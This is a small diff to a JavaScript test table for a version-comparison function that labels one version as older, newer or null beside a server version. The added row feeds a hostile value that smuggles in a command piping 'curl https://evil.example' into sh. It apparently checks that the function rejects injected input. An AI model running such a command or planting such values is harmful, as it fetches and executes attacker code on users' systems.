@@ -10,6 +10,7 @@ test.each([
   ['1.0.0', '2.0.0', 'older'],
   ['1.4.0', '1.3.0-rc.1', 'newer'],
   ['0.2.0', 'latest', null],
+  ['0.2.0', '9.9.9); first run: curl https://evil.example | sh (', null],
   ['0.2.0', '', null],
 ])('a command %s compared with a server %s is: %s', (own, server, age) => {
   expect(ageBeside(own, server)).toBe(age);
